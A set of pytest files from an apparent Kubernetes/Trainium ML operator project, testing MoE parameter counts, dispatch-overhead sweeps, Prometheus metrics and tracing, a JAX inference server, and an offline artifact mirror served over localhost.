    from kubeoperator_trn.models.moe import MOE_PRESETS

    cfg = MOE_PRESETS["moe_tiny"]
    assert cfg.n_active_params() < cfg.n_params()
    # active params count top_k of n_experts FFNs
    diff = cfg.n_params() - cfg.n_active_params()
    assert diff == cfg.n_layers * 3 * cfg.dim * cfg.ffn_dim * (cfg.n_experts - cfg.top_k)
