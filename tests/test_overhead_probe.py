"""Tier-1 smoke for the dispatch-overhead probe's K-step sweep.

ISSUE 5's acceptance gate lives on hardware (K=8 amortized dispatch
<= 1/4 of K=1); on the CPU mesh these tests pin the mechanics instead:
the sweep runs, reports one row per K with per_step_ms = call_ms / K,
and the floor/compute fit is internally consistent.
"""

import json
import os
import subprocess
import sys

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def test_resolve_steps_per_call(monkeypatch):
    from kubeoperator_trn.train.train_step import (
        DEFAULT_STEPS_PER_CALL, resolve_steps_per_call)

    monkeypatch.delenv("KO_STEPS_PER_CALL", raising=False)
    assert resolve_steps_per_call(None) == DEFAULT_STEPS_PER_CALL
    monkeypatch.setenv("KO_STEPS_PER_CALL", "4")
    assert resolve_steps_per_call(None) == 4
    # explicit value beats env
    assert resolve_steps_per_call(2) == 2
    with pytest.raises(ValueError):
        resolve_steps_per_call(0)


@pytest.mark.slow
def test_overhead_probe_fast_sweep():
    env = dict(os.environ, JAX_PLATFORMS="cpu", KO_PROBE_FAST="1",
               XLA_FLAGS="--xla_force_host_platform_device_count=8")
    out = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "overhead_probe.py")],
        capture_output=True, text=True, timeout=480, env=env, check=True,
    )
    result = json.loads(out.stdout.strip())
    assert result["metric"] == "dispatch_overhead_ms"
    assert result["tiny_add_ms"] > 0
    # fast mode skips the 200M bench step
    assert "bench_step_ms" not in result

    ms = result["multi_step"]
    sweep = ms["sweep"]
    assert [row["steps_per_call"] for row in sweep] == [1, 4]
    for row in sweep:
        assert row["call_ms"] > 0
        # per_step is the call wall amortized over K
        assert row["per_step_ms"] == pytest.approx(
            row["call_ms"] / row["steps_per_call"], rel=0.02)
        assert row["dispatch_ms_per_step"] >= 0
    assert ms["fit_compute_ms_per_step"] >= 0
    assert ms["fit_dispatch_floor_ms"] >= 0
    # fit consistency: floor + K*compute reproduces the anchor point
    lo = sweep[0]
    assert lo["call_ms"] == pytest.approx(
        ms["fit_dispatch_floor_ms"]
        + lo["steps_per_call"] * ms["fit_compute_ms_per_step"],
        abs=0.1)
