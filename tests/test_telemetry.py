"""Telemetry plane tests (ISSUE 4): Prometheus exposition conformance,
trace-id propagation through a full fake-task lifecycle, /metrics on
both servers, and the MFU math against fake_monitor_sample."""

import json
import math
import re
import time
import urllib.request

import pytest

from kubeoperator_trn.telemetry import metrics as M
from kubeoperator_trn.telemetry import tracing as T


# -- exposition conformance ---------------------------------------------

#: one exposition sample line: name{labels} value
SAMPLE_RE = re.compile(
    r'^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[^{}]*\})? (-?[0-9.e+-]+|\+Inf|-Inf|NaN)$')

#: OpenMetrics-style exemplar suffix on a bucket line (ISSUE 19):
#: ``... 3 # {trace_id="abc"} 0.017``
EXEMPLAR_RE = re.compile(r'\s+#\s*\{[^}]*\}\s+[^\s]+$')


def _check_exposition(text: str):
    """Assert the Prometheus text-format contract: every non-comment
    line parses, every family has HELP+TYPE before its samples, and
    histogram bucket counts are cumulative (monotone, +Inf == _count).
    Exemplar suffixes are validated separately (bucket lines only),
    then stripped before the base-format check."""
    current_family = None
    seen_type: dict = {}
    buckets: dict = {}
    counts: dict = {}
    for line in text.splitlines():
        if not line:
            continue
        if line.startswith("# HELP "):
            current_family = line.split()[2]
            continue
        if line.startswith("# TYPE "):
            _, _, fam, kind = line.split(None, 3)
            assert fam == current_family, f"TYPE {fam} without HELP"
            assert kind in ("counter", "gauge", "histogram", "untyped")
            seen_type[fam] = kind
            continue
        ex = EXEMPLAR_RE.search(line)
        if ex:
            assert "_bucket{" in line, \
                f"exemplar on a non-bucket line: {line!r}"
            line = line[:ex.start()]
        assert SAMPLE_RE.match(line), f"malformed sample line: {line!r}"
        name = re.split(r"[{ ]", line, 1)[0]
        base = re.sub(r"_(bucket|sum|count)$", "", name)
        assert name in seen_type or base in seen_type, \
            f"sample {name} precedes its # TYPE"
        if name.endswith("_bucket"):
            series = line.rsplit(" ", 1)[0]
            key = re.sub(r'le="[^"]*",?', "", series)
            buckets.setdefault(key, []).append(float(line.rsplit(" ", 1)[1]))
        if name.endswith("_count") and seen_type.get(base) == "histogram":
            counts[name[: -len("_count")]] = float(line.rsplit(" ", 1)[1])
    for key, cum in buckets.items():
        assert cum == sorted(cum), f"non-monotone buckets for {key}: {cum}"
        assert cum, key
    return seen_type, buckets, counts


def test_counter_gauge_exposition():
    r = M.MetricsRegistry()
    c = r.counter("ko_test_requests_total", "Requests", ("code",))
    c.labels(code="200").inc()
    c.labels(code="200").inc(2)
    c.labels(code="500").inc()
    g = r.gauge("ko_test_depth", "Depth")
    g.set(3)
    g.dec()
    text = r.to_prometheus()
    _check_exposition(text)
    assert '# TYPE ko_test_requests_total counter' in text
    assert 'ko_test_requests_total{code="200"} 3' in text
    assert 'ko_test_requests_total{code="500"} 1' in text
    assert "# TYPE ko_test_depth gauge" in text
    assert "ko_test_depth 2" in text


def test_unlabeled_metric_exposes_zero_series_immediately():
    r = M.MetricsRegistry()
    r.counter("ko_test_total", "never touched")
    assert "ko_test_total 0" in r.to_prometheus()


def test_label_escaping():
    r = M.MetricsRegistry()
    g = r.gauge("ko_test_g", "g", ("path",))
    g.labels(path='a"b\\c\nd').set(1)
    text = r.to_prometheus()
    _check_exposition(text)
    assert 'path="a\\"b\\\\c\\nd"' in text


def test_histogram_exposition_and_monotone_buckets():
    r = M.MetricsRegistry()
    h = r.histogram("ko_test_seconds", "latency", buckets=(0.1, 1.0, 10.0))
    for v in (0.05, 0.5, 0.5, 5.0, 50.0):
        h.observe(v)
    text = r.to_prometheus()
    _, buckets, counts = _check_exposition(text)
    assert 'ko_test_seconds_bucket{le="0.1"} 1' in text
    assert 'ko_test_seconds_bucket{le="1"} 3' in text
    assert 'ko_test_seconds_bucket{le="10"} 4' in text
    assert 'ko_test_seconds_bucket{le="+Inf"} 5' in text
    assert "ko_test_seconds_count 5" in text
    assert abs(h._default().sum - 56.05) < 1e-9
    assert counts["ko_test_seconds"] == 5


def test_histogram_quantiles_clamped_to_extremes():
    h = M.Histogram("h", "h")
    assert math.isnan(h.quantile(0.5))
    for v in (0.010, 0.011, 0.012, 0.013, 0.100):
        h.observe(v)
    assert h.quantile(0.0) >= 0.010
    assert h.quantile(1.0) == pytest.approx(0.100)
    assert 0.010 <= h.quantile(0.5) <= 0.100
    assert h.max == pytest.approx(0.100)
    with pytest.raises(ValueError):
        h.quantile(1.5)


def test_log_buckets_and_registry_conflicts():
    b = M.log_buckets(1e-3, 2.0, 4)
    assert b == (1e-3, 2e-3, 4e-3, 8e-3)
    with pytest.raises(ValueError):
        M.log_buckets(0, 2.0, 4)
    with pytest.raises(ValueError):
        M.Histogram("h", "h", buckets=(1.0, 1.0, 2.0))
    r = M.MetricsRegistry()
    r.counter("ko_x", "x")
    with pytest.raises(ValueError):
        r.gauge("ko_x", "x")
    with pytest.raises(ValueError):
        r.histogram("ko_x", "x")
    with pytest.raises(ValueError):
        r.counter("ko_x", "x", ("other",))
    # same type + labels: get-or-create returns the same family
    assert r.counter("ko_x", "x") is r.counter("ko_x")


# -- tracer unit tests ---------------------------------------------------

def test_span_nesting_inherits_trace_and_parent(tmp_path):
    tr = T.Tracer(str(tmp_path / "spans.jsonl"))
    with tr.span("outer") as outer:
        assert T.current_trace_id() == outer["trace_id"]
        with tr.span("inner") as inner:
            pass
    assert inner["trace_id"] == outer["trace_id"]
    assert inner["parent_id"] == outer["span_id"]
    assert outer["parent_id"] is None
    assert inner["wall_s"] >= 0
    # context is restored after exit
    assert T.current_trace_id() is None
    lines = [json.loads(l) for l in
             (tmp_path / "spans.jsonl").read_text().splitlines()]
    # flushed innermost-first (spans close inside-out)
    assert [l["name"] for l in lines] == ["inner", "outer"]
    assert {l["trace_id"] for l in lines} == {outer["trace_id"]}


def test_explicit_trace_id_and_trace_context(tmp_path):
    tr = T.Tracer()
    tid = T.new_trace_id()
    with tr.span("a", trace_id=tid) as a:
        assert a["trace_id"] == tid
    with T.trace_context(tid):
        with tr.span("b") as b:
            pass
    assert b["trace_id"] == tid
    assert tr.find(tid) == [a, b]
    rec = tr.emit("win", start=123.0, wall_s=1.5, trace_id=tid,
                  attrs={"step": 20})
    assert rec["trace_id"] == tid and rec["wall_s"] == 1.5
    assert len(tr.find(tid)) == 3


def test_phase_timings_is_a_tracer_facade():
    from kubeoperator_trn.utils.profiling import PhaseTimings

    tr = T.Tracer()
    pt = PhaseTimings(tracer=tr)
    with pt.phase("load"):
        pass
    with pt.phase("compile"):
        pass
    s = pt.summary()
    assert [p["name"] for p in s["phases"]] == ["load", "compile"]
    # every phase is a span in the tracer, all under one trace id
    spans = tr.find(s["trace_id"])
    assert [sp["name"] for sp in spans] == ["load", "compile"]


# -- MFU math ------------------------------------------------------------

def test_mfu_math_against_fake_monitor_sample():
    from kubeoperator_trn.cluster import neuron_monitor as nm

    assert nm.mfu_from_throughput(0.0, 1.0, 0) == 0.0
    # 1000 tok/s * 7.86e10 flops/tok over 2 cores * 78.6e12 = 0.5 MFU
    mfu = nm.mfu_from_throughput(1000.0, 7.86e10, 2)
    assert mfu == pytest.approx(0.5)

    sample = nm.fake_monitor_sample(n_devices=2, cores_per_device=4,
                                    utilization=0.5)
    sample["job"] = {"tokens_per_s": 1000.0, "flops_per_token": 7.86e10,
                    "n_cores": 2}
    r = M.MetricsRegistry()
    nm.update_registry({"node0": sample}, registry=r)
    text = r.to_prometheus()
    _check_exposition(text)
    assert 'ko_ops_monitor_job_mfu{node="node0"} 0.5' in text
    assert 'ko_ops_monitor_job_tokens_per_s{node="node0"} 1000' in text
    assert 'ko_ops_monitor_memory_total_bytes{node="node0"} 48000000000' \
        in text
    # the same job numbers flow through the legacy per-node exposition
    legacy = nm.to_prometheus(sample, node="node0")
    assert 'ko_job_mfu{node="node0"} 0.5000' in legacy


# -- end-to-end: fake task lifecycle, one trace id ----------------------

class _Client:
    def __init__(self, port):
        self.base = f"http://127.0.0.1:{port}"
        self.token = None

    def req(self, method, path, body=None, headers=None, expect=None):
        data = json.dumps(body).encode() if body is not None else None
        r = urllib.request.Request(self.base + path, data=data, method=method)
        r.add_header("Content-Type", "application/json")
        if self.token:
            r.add_header("Authorization", f"Bearer {self.token}")
        for k, v in (headers or {}).items():
            r.add_header(k, v)
        try:
            with urllib.request.urlopen(r) as resp:
                status, payload, ctype = (resp.status, resp.read(),
                                          resp.headers.get("Content-Type", ""))
        except urllib.error.HTTPError as e:
            status, payload, ctype = e.code, e.read(), ""
        try:
            payload = json.loads(payload)
        except (json.JSONDecodeError, UnicodeDecodeError):
            payload = payload.decode(errors="replace")
        if expect is not None:
            assert status == expect, (status, payload)
        return status, payload, ctype

    def login(self):
        _, out, _ = self.req("POST", "/api/v1/auth/login",
                             {"username": "admin", "password": "pw"},
                             expect=200)
        self.token = out["token"]


@pytest.fixture()
def ops_app(tmp_path):
    from kubeoperator_trn.cluster.api import make_server
    from kubeoperator_trn.cluster.runner import FakeRunner
    from kubeoperator_trn.server import build_app

    spans_path = tmp_path / "spans.jsonl"
    T.get_tracer().configure(str(spans_path))
    api, engine, db = build_app(runner=FakeRunner(), admin_password="pw")
    server, thread = make_server(api)
    thread.start()
    client = _Client(server.server_address[1])
    client.login()
    try:
        yield client, engine, api, spans_path
    finally:
        T.get_tracer().configure(None)
        engine.shutdown()
        server.shutdown()


def _create_cluster(client, headers=None):
    _, cred, _ = client.req("POST", "/api/v1/credentials",
                            {"name": "k", "username": "root", "secret": "s"},
                            expect=201)
    hosts = []
    for i in range(2):
        _, h, _ = client.req("POST", "/api/v1/hosts",
                             {"name": f"h{i}", "ip": f"10.0.0.{i+1}",
                              "credential_id": cred["id"]}, expect=201)
        hosts.append(h["id"])
    nodes = [{"name": "master-0", "host_id": hosts[0], "role": "master"},
             {"name": "worker-0", "host_id": hosts[1], "role": "worker"}]
    _, out, _ = client.req("POST", "/api/v1/clusters",
                           {"name": "t1", "spec": {}, "nodes": nodes},
                           headers=headers, expect=202)
    return out


def test_trace_id_links_api_request_to_phases_and_notification(ops_app):
    client, engine, api, spans_path = ops_app
    tid = T.new_trace_id()
    out = _create_cluster(client, headers={"X-KO-Trace": tid})
    assert engine.wait(out["task_id"], timeout=60)
    # the notify.deliver span fires on a daemon thread — poll briefly
    deadline = time.time() + 5
    names = set()
    while time.time() < deadline:
        names = {s["name"] for s in T.get_tracer().find(tid)}
        if "notify.deliver" in names:
            break
        time.sleep(0.05)
    for expected in ("api.request", "taskengine.task", "taskengine.phase",
                     "runner.run", "notify.deliver"):
        assert expected in names, f"{expected} missing from {sorted(names)}"
    # task doc carries the correlation id across the engine thread hop
    _, task, _ = client.req("GET", f"/api/v1/tasks/{out['task_id']}",
                            expect=200)
    assert task["trace_id"] == tid
    # ...and the same linkage is in the flushed JSONL
    flushed = [json.loads(l) for l in
               spans_path.read_text().splitlines()]
    by_trace = [s["name"] for s in flushed if s["trace_id"] == tid]
    for expected in ("api.request", "taskengine.task", "taskengine.phase",
                     "runner.run", "notify.deliver"):
        assert expected in by_trace


def test_ops_metrics_endpoint(ops_app):
    client, engine, api, _ = ops_app
    from kubeoperator_trn.cluster import neuron_monitor as nm

    out = _create_cluster(client)
    assert engine.wait(out["task_id"], timeout=60)
    # feed one monitor sample so the ko_ops_monitor_* family is live
    client.req("POST", "/monitor/report",
               {"node": "node0", "sample": nm.fake_monitor_sample(2, 4)},
               expect=200)
    status, text, ctype = client.req("GET", "/metrics", expect=200)
    assert "text/plain" in ctype
    assert isinstance(text, str)
    _check_exposition(text.split("# HELP neuroncore_utilization_ratio")[0])
    series = {line.rsplit(" ", 1)[0] for line in text.splitlines()
              if line.startswith("ko_")}
    assert len(series) >= 20, f"only {len(series)} ko_* series"
    joined = "\n".join(sorted(series))
    for fam in ("ko_ops_api_requests_total", "ko_ops_api_request_seconds",
                "ko_ops_taskengine_queue_depth",
                "ko_ops_taskengine_phase_seconds",
                "ko_ops_taskengine_tasks_total",
                "ko_ops_doctor_ticks_total", "ko_ops_doctor_probe_seconds",
                "ko_ops_notify_deliveries_total",
                "ko_ops_monitor_core_utilization_ratio"):
        assert fam in joined, f"{fam} missing"
    # labeled families expose no series until touched, but must still be
    # declared (HELP/TYPE) so dashboards can discover them
    for fam in ("ko_ops_doctor_breaker_open",
                "ko_ops_doctor_node_fail_streak",
                "ko_ops_doctor_repair_budget_used",
                "ko_ops_doctor_repairs_total"):
        assert f"# TYPE {fam} " in text, f"{fam} not declared"
    # a completed create shows up in the terminal-outcome counter (the
    # registry is process-global, so earlier tests may have added more)
    m = re.search(
        r'ko_ops_taskengine_tasks_total\{op="create",status="Success"\} '
        r'(\d+)', text)
    assert m and int(m.group(1)) >= 1, "create outcome counter missing"
    # legacy per-core neuron-monitor exposition is appended verbatim
    assert "neuroncore_utilization_ratio" in text


def test_cancel_and_retry_counters(ops_app):
    client, engine, api, _ = ops_app
    before = api.service.engine.metrics["cancels"].value
    # cancel of a finished task is a 409 — counter must NOT move
    out = _create_cluster(client)
    assert engine.wait(out["task_id"], timeout=60)
    client.req("POST", f"/api/v1/tasks/{out['task_id']}/cancel", expect=409)
    assert api.service.engine.metrics["cancels"].value == before


def test_events_since_filter(ops_app):
    client, engine, api, _ = ops_app
    t0 = time.time()
    api.journal.record("info", "health.check.passed", "m1")
    t_mid = time.time()
    time.sleep(0.02)
    api.journal.record("warning", "health.degraded", "m2")
    _, all_items, _ = client.req("GET", "/api/v1/events", expect=200)
    assert len(all_items["items"]) == 2
    _, late, _ = client.req("GET", f"/api/v1/events?since={t_mid + 0.01}",
                            expect=200)
    assert [e["message"] for e in late["items"]] == ["m2"]
    _, both, _ = client.req("GET", f"/api/v1/events?since={t0 - 1}",
                            expect=200)
    assert len(both["items"]) == 2
    # journal-level: since composes with the id cursor
    items = api.journal.query(since=t_mid + 0.01)
    assert [e["message"] for e in items] == ["m2"]


# -- inference server ----------------------------------------------------

def test_infer_metrics_endpoint():
    from kubeoperator_trn.infer.server import InferenceService, make_server

    service = InferenceService(preset="llama3_tiny", ckpt_dir="")
    server, thread = make_server(service)
    thread.start()
    try:
        client = _Client(server.server_address[1])
        client.req("POST", "/generate",
                   {"prompt_ids": [[1, 2, 3]], "max_new_tokens": 4},
                   expect=200)
        status, text, ctype = client.req("GET", "/metrics", expect=200)
        assert "text/plain" in ctype
        _check_exposition(text)
        assert "ko_work_infer_requests_total" in text
        assert "ko_work_infer_ttft_seconds_count" in text
        assert re.search(r"ko_work_infer_ttft_seconds_count (\d+)", text)
        assert int(re.search(r"ko_work_infer_requests_total (\d+)",
                             text).group(1)) >= 1
        # the request went through the continuous-batching scheduler:
        # the serving signals are now batch occupancy + paged-pool state
        assert "ko_work_infer_batch_occupancy_ratio" in text
        assert "ko_work_infer_queue_depth 0" in text
        assert re.search(r"ko_work_infer_decode_tokens_total (\d+)", text)
        m = re.search(r"ko_work_infer_free_kv_blocks (\d+)", text)
        # request finished -> every block back in the pool
        assert int(m.group(1)) == service.scheduler.alloc.capacity
    finally:
        server.shutdown()
        service.close()
