"""Inference engine: cached decode must match uncached full forward."""

from dataclasses import replace

import jax
import jax.numpy as jnp
import numpy as np

from kubeoperator_trn.models import llama
from kubeoperator_trn.infer import init_cache, prefill, decode_step, generate
from kubeoperator_trn.infer.engine import sample


CFG = replace(llama.PRESETS["llama3_tiny"], compute_dtype="float32")


def test_prefill_matches_forward():
    params = llama.init_params(CFG, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (2, 12), 0, CFG.vocab_size)
    full = llama.forward(CFG, params, toks)
    cache = init_cache(CFG, 2, 32)
    last, cache = prefill(CFG, params, toks, cache)
    np.testing.assert_allclose(
        np.asarray(last), np.asarray(full[:, -1]), rtol=2e-4, atol=2e-4
    )
    assert int(cache.length) == 12


def test_decode_matches_teacher_forcing():
    """Greedy decode with cache == recomputing the full sequence."""
    params = llama.init_params(CFG, jax.random.key(0))
    prompt = jax.random.randint(jax.random.key(1), (1, 8), 0, CFG.vocab_size)

    # Reference: grow the sequence, full forward each step, argmax.
    seq = prompt
    for _ in range(6):
        logits = llama.forward(CFG, params, seq)
        nxt = jnp.argmax(logits[:, -1], axis=-1)
        seq = jnp.concatenate([seq, nxt[:, None]], axis=1)

    got = generate(CFG, params, prompt, max_new_tokens=6)
    np.testing.assert_array_equal(np.asarray(got), np.asarray(seq))


def test_decode_step_advances_cache():
    params = llama.init_params(CFG, jax.random.key(0))
    prompt = jnp.ones((2, 4), jnp.int32)
    cache = init_cache(CFG, 2, 16)
    logits, cache = prefill(CFG, params, prompt, cache)
    tok = jnp.argmax(logits, axis=-1)
    logits2, cache = decode_step(CFG, params, tok, cache)
    assert int(cache.length) == 5
    assert logits2.shape == (2, CFG.vocab_size)
    assert bool(jnp.all(jnp.isfinite(logits2)))


def test_sampling_modes():
    logits = jnp.asarray([[0.0, 5.0, 1.0, 2.0]])
    assert int(sample(logits, jax.random.key(0))[0]) == 1
    # top-k=1 with temperature equals argmax
    assert int(sample(logits, jax.random.key(0), temperature=1.0, top_k=1)[0]) == 1
    # temperature sampling stays within vocab
    s = sample(jnp.zeros((4, 8)), jax.random.key(0), temperature=1.0)
    assert s.shape == (4,) and bool(jnp.all((s >= 0) & (s < 8)))
