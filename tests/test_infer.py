"""Inference engine: cached decode must match uncached full forward."""

from dataclasses import replace

import jax
import jax.numpy as jnp
import numpy as np

from kubeoperator_trn.models import llama
from kubeoperator_trn.infer import init_cache, prefill, decode_step, generate
from kubeoperator_trn.infer.engine import sample


CFG = replace(llama.PRESETS["llama3_tiny"], compute_dtype="float32")


def test_prefill_matches_forward():
    params = llama.init_params(CFG, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (2, 12), 0, CFG.vocab_size)
    full = llama.forward(CFG, params, toks)
    cache = init_cache(CFG, 2, 32)
    last, cache = prefill(CFG, params, toks, cache)
    np.testing.assert_allclose(
        np.asarray(last), np.asarray(full[:, -1]), rtol=2e-4, atol=2e-4
    )
    assert int(cache.length) == 12


def test_decode_matches_teacher_forcing():
    """Greedy decode with cache == recomputing the full sequence."""
    params = llama.init_params(CFG, jax.random.key(0))
    prompt = jax.random.randint(jax.random.key(1), (1, 8), 0, CFG.vocab_size)

    # Reference: grow the sequence, full forward each step, argmax.
    seq = prompt
    for _ in range(6):
        logits = llama.forward(CFG, params, seq)
        nxt = jnp.argmax(logits[:, -1], axis=-1)
        seq = jnp.concatenate([seq, nxt[:, None]], axis=1)

    got = generate(CFG, params, prompt, max_new_tokens=6)
    np.testing.assert_array_equal(np.asarray(got), np.asarray(seq))


def test_decode_step_advances_cache():
    params = llama.init_params(CFG, jax.random.key(0))
    prompt = jnp.ones((2, 4), jnp.int32)
    cache = init_cache(CFG, 2, 16)
    logits, cache = prefill(CFG, params, prompt, cache)
    tok = jnp.argmax(logits, axis=-1)
    logits2, cache = decode_step(CFG, params, tok, cache)
    assert int(cache.length) == 5
    assert logits2.shape == (2, CFG.vocab_size)
    assert bool(jnp.all(jnp.isfinite(logits2)))


def test_sampling_modes():
    logits = jnp.asarray([[0.0, 5.0, 1.0, 2.0]])
    assert int(sample(logits, jax.random.key(0))[0]) == 1
    # top-k=1 with temperature equals argmax
    assert int(sample(logits, jax.random.key(0), temperature=1.0, top_k=1)[0]) == 1
    # temperature sampling stays within vocab
    s = sample(jnp.zeros((4, 8)), jax.random.key(0), temperature=1.0)
    assert s.shape == (4,) and bool(jnp.all((s >= 0) & (s < 8)))


def test_inference_http_server_roundtrip(tmp_path):
    """Serve a tiny model over HTTP: /generate returns prompt+N tokens,
    checkpoint weights load when present, bad requests are 400s."""
    import json
    import urllib.request

    import numpy as np

    from kubeoperator_trn.infer.server import InferenceService, make_server
    from kubeoperator_trn.models import llama
    from kubeoperator_trn.train import checkpoint as ckpt

    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params_numpy(cfg, 7)
    ckpt.save_checkpoint(str(tmp_path), 42, {"params": params,
                                             "opt": {"step": np.zeros(())}},
                         meta={"preset": "llama3_tiny"})
    service = InferenceService(cfg=cfg, ckpt_dir=str(tmp_path),
                               preset="llama3_tiny")
    server, thread = make_server(service)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"

    def req(path, body=None):
        data = json.dumps(body).encode() if body is not None else None
        r = urllib.request.Request(base + path, data=data,
                                   method="POST" if body else "GET")
        try:
            with urllib.request.urlopen(r, timeout=120) as resp:
                return resp.status, json.loads(resp.read())
        except urllib.error.HTTPError as e:
            return e.code, json.loads(e.read())

    status, h = req("/healthz")
    assert status == 200 and h["ok"]

    status, out = req("/generate", {"prompt_ids": [[1, 2, 3, 4]],
                                    "max_new_tokens": 4})
    assert status == 200, out
    toks = out["tokens"]
    assert len(toks) == 1 and len(toks[0]) == 8
    assert toks[0][:4] == [1, 2, 3, 4]
    assert all(0 <= t < cfg.vocab_size for t in toks[0])

    # deterministic at temperature 0
    _, out2 = req("/generate", {"prompt_ids": [[1, 2, 3, 4]],
                                "max_new_tokens": 4})
    assert out2["tokens"] == toks

    status, err = req("/generate", {"prompt_ids": [[999999]]})
    assert status == 400
    status, err = req("/generate", {"max_new_tokens": 2})
    assert status == 400

    server.shutdown()
    service.close()  # stop the scheduler thread, not just the listener


def test_generate_rejects_nonpositive_max_new_tokens():
    import pytest as _p

    from kubeoperator_trn.infer.engine import generate
    from kubeoperator_trn.models import llama

    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params_numpy(cfg, 0)
    import numpy as np
    prompt = np.array([[1, 2, 3]], dtype=np.int32)
    for bad in (0, -1):
        with _p.raises(ValueError):
            generate(cfg, params, prompt, max_new_tokens=bad)


def test_server_rejects_overflow_and_limits(monkeypatch):
    from kubeoperator_trn.infer.server import InferenceService
    from kubeoperator_trn.models import llama

    cfg = llama.PRESETS["llama3_tiny"]
    # validation rejects before any compute, so no scheduler needed
    svc = InferenceService(cfg=cfg, params=llama.init_params_numpy(cfg, 0),
                           preset="llama3_tiny", ckpt_dir="/nonexistent",
                           use_scheduler=False)
    import pytest as _p
    with _p.raises(ValueError):
        svc.generate([[2 ** 40]], max_new_tokens=2)
    with _p.raises(ValueError):
        svc.generate([[1, 2]], max_new_tokens=0)
    monkeypatch.setenv("KO_MAX_BATCH", "1")
    with _p.raises(ValueError):
        svc.generate([[1], [2]], max_new_tokens=2)
    monkeypatch.setenv("KO_MAX_SEQ", "4")
    with _p.raises(ValueError):
        svc.generate([[1, 2, 3]], max_new_tokens=2)


def test_bucket_len_pow2():
    from kubeoperator_trn.infer.engine import bucket_len

    assert bucket_len(1) == 16          # floor
    assert bucket_len(16) == 16
    assert bucket_len(17) == 32
    assert bucket_len(33) == 64
    assert bucket_len(100, floor=4) == 128


def test_generate_buckets_shapes_no_per_request_recompile():
    """Prompt lengths in the same pow2 bucket must not add compile-
    counter entries — the per-request recompilation fix in one assert."""
    from kubeoperator_trn.infer import engine

    params = llama.init_params(CFG, jax.random.key(0))
    compiles = engine._infer_metrics()["compiles"]

    p5 = jax.random.randint(jax.random.key(2), (1, 5), 0, CFG.vocab_size)
    generate(CFG, params, p5, max_new_tokens=4)     # warm the bucket
    before = compiles.value
    p7 = jax.random.randint(jax.random.key(3), (1, 7), 0, CFG.vocab_size)
    generate(CFG, params, p7, max_new_tokens=4)     # same (16, 16) bucket
    generate(CFG, params, p5, max_new_tokens=6)     # 5+6=11 still <=16
    assert compiles.value == before, \
        "same-bucket requests must reuse traced shapes"

    p20 = jax.random.randint(jax.random.key(4), (1, 20), 0, CFG.vocab_size)
    generate(CFG, params, p20, max_new_tokens=4)    # new (32, 32) bucket
    assert compiles.value > before


def test_generate_padded_prompt_matches_teacher_forcing():
    """Odd (non-bucket) prompt length: the pad lanes must not perturb
    greedy decode — same check as test_decode_matches_teacher_forcing
    but with a length that actually exercises the padding path."""
    params = llama.init_params(CFG, jax.random.key(0))
    prompt = jax.random.randint(jax.random.key(9), (2, 11), 0,
                                CFG.vocab_size)
    seq = prompt
    for _ in range(7):
        logits = llama.forward(CFG, params, seq)
        nxt = jnp.argmax(logits[:, -1], axis=-1)
        seq = jnp.concatenate([seq, nxt[:, None]], axis=1)
    got = generate(CFG, params, prompt, max_new_tokens=7)
    np.testing.assert_array_equal(np.asarray(got), np.asarray(seq))
