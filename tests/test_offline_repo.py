"""Offline artifact mirror: sync plan, index, HTTP serving."""

import json
import urllib.request

from kubeoperator_trn.cluster import offline_repo
from kubeoperator_trn.cluster.entities import DEFAULT_MANIFESTS
from dataclasses import asdict


def test_sync_plan_tracks_missing_then_present(tmp_path):
    manifest = asdict(DEFAULT_MANIFESTS[0])
    plan = offline_repo.sync_plan(str(tmp_path), manifest)
    assert not plan["complete"]
    assert any(a["category"] == "neuron" for a in plan["missing"])
    assert any(a["category"] == "efa" for a in plan["missing"])

    # drop the artifacts in place -> plan completes
    for art in offline_repo.required_artifacts(manifest):
        p = tmp_path / art["category"] / art["name"]
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(b"artifact")
    plan2 = offline_repo.sync_plan(str(tmp_path), manifest)
    assert plan2["complete"] and not plan2["missing"]


def test_index_and_http_serving(tmp_path):
    (tmp_path / "k8s" / "v1.28.8").mkdir(parents=True)
    (tmp_path / "k8s" / "v1.28.8" / "kube-bins.tgz").write_bytes(b"x" * 64)
    index = offline_repo.write_index(str(tmp_path))
    assert index["k8s"][0]["bytes"] == 64

    server, thread = offline_repo.serve(str(tmp_path), host="127.0.0.1", port=0)
    try:
        port = server.server_address[1]
        with urllib.request.urlopen(
            f"http://127.0.0.1:{port}/k8s/v1.28.8/kube-bins.tgz"
        ) as r:
            assert r.read() == b"x" * 64
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/index.json") as r:
            assert json.load(r)["k8s"]
    finally:
        server.shutdown()
