"""Offline artifact mirror: sync plan, index, HTTP serving, and the
content-addressed compile-artifact store (ISSUE 9)."""

import json
import os
import threading
import urllib.request

import pytest

from kubeoperator_trn.cluster import offline_repo
from kubeoperator_trn.cluster.entities import DEFAULT_MANIFESTS
from kubeoperator_trn.cluster.offline_repo import (
    ArtifactCorrupt,
    ArtifactStore,
    compile_key,
    content_digest,
)
from dataclasses import asdict


def test_sync_plan_tracks_missing_then_present(tmp_path):
    manifest = asdict(DEFAULT_MANIFESTS[0])
    plan = offline_repo.sync_plan(str(tmp_path), manifest)
    assert not plan["complete"]
    assert any(a["category"] == "neuron" for a in plan["missing"])
    assert any(a["category"] == "efa" for a in plan["missing"])

    # drop the artifacts in place -> plan completes
    for art in offline_repo.required_artifacts(manifest):
        p = tmp_path / art["category"] / art["name"]
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(b"artifact")
    plan2 = offline_repo.sync_plan(str(tmp_path), manifest)
    assert plan2["complete"] and not plan2["missing"]


def test_index_and_http_serving(tmp_path):
    (tmp_path / "k8s" / "v1.28.8").mkdir(parents=True)
    (tmp_path / "k8s" / "v1.28.8" / "kube-bins.tgz").write_bytes(b"x" * 64)
    index = offline_repo.write_index(str(tmp_path))
    assert index["k8s"][0]["bytes"] == 64

    server, thread = offline_repo.serve(str(tmp_path), host="127.0.0.1", port=0)
    try:
        port = server.server_address[1]
        with urllib.request.urlopen(
            f"http://127.0.0.1:{port}/k8s/v1.28.8/kube-bins.tgz"
        ) as r:
            assert r.read() == b"x" * 64
